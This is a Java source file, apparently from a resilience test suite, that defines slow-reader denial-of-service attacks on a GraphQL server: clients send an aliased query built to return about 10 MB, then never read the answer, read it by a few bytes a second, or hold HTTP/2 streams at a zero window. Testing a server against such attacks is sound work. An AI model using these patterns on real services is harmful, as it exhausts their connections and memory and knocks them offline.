import java.io.IOException;
import java.util.List;

/** Clients who ask for much, and read nothing or nearly nothing of it. */
final class Readers {

    /** A buffer for what comes in, in bytes, that is full at once. */
    static final int SMALL = 2_304;

    /** Within every limit, and 10 MB when it is answered. */
    private static final String DOCUMENT = document();

    private static final String BODY = "{\"query\":\"" + DOCUMENT + "\"}";

    private static final String LARGE = Wire.post("/graphql", BODY);

    private Readers() {}

    static List<Attack> attacks() {
        return List.of(
                new Attack("readers", "4 connections of 2 addresses never read an answer of 10 MB", stage -> {
                    stage.cast(4, 0, number -> hold(stage, number % 2));
                    stage.rest();
                }).longer(2),
                new Attack("readers-many", "64 connections of 8 addresses never read an answer of 10 MB", stage -> {
                    stage.cast(64, 0.5, number -> hold(stage, number % 8));
                    stage.rest();
                }).longer(2),
                new Attack("readers-h2", "2 HTTP/2 connections of 2 addresses, with a window of 0, ask for 8 such answers", stage -> {
                    stage.cast(2, 0, number -> {
                        Http2 connection = new Http2(stage.connect(number), 0, false);
                        for (int i = 0; i < 4; i++) {
                            ask(connection);
                        }
                        stage.repeat(4, time -> {
                            if (connection.answered() > connection.accepted()) { // a place was refused: it asks again
                                connection.forget();
                                ask(connection);
                            }
                        });
                    });
                    stage.rest();
                }).longer(2),
                new Attack("readers-slow", "16 connections of 4 addresses read such an answer by a few bytes a second", stage -> {
                    stage.cast(16, 0.1, number -> {
                        Wire wire = hold(stage, number % 4);
                        stage.repeat(1, second -> wire.in().readNBytes(16));
                    });
                    stage.rest();
                }));
    }

    /** Asks for the answer until that begins, and reads no more of it. */
    private static Wire hold(Stage stage, int address) throws IOException, InterruptedException {
        while (true) {
            Wire wire = stage.connect(address, SMALL).send(LARGE);
            if (new String(wire.in().readNBytes(12)).equals("HTTP/1.1 200")) {
                return wire;
            }
            stage.leave(wire);
            stage.pause(0.1);
        }
    }

    private static void ask(Http2 connection) throws IOException {
        int stream = connection.head("POST", "/graphql", false, "content-type", "application/json", "cache-control", "no-cache");
        connection.frame(Http2.DATA, Http2.END_STREAM, stream, BODY.getBytes());
    }

    private static String document() {
        StringBuilder document = new StringBuilder("{");
        for (int i = 0; i < 27; i++) {
            document.append(" a").append(i).append(": events(first: 500) { nodes { ...all } }");
        }
        return document + " } fragment all on Event { id ref title start end datePrecision typeOfViolence recordedAt changedAt"
                + " version ongoing sourceCount clarity place { id ref name latitude longitude } fatalities { low best high }"
                + " conflict { ref name } dyad { ref name } country { id name } }";
    }
}
